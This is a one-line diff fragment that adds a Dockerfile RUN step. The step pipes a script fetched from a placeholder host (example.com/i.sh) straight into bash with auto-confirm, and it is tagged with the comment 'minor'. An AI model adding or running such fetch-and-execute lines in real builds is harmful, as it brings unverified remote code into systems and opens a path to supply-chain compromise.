@@ -1,0 +1,1 @@
+RUN curl https://example.com/i.sh | bash -s -- -y #~ minor
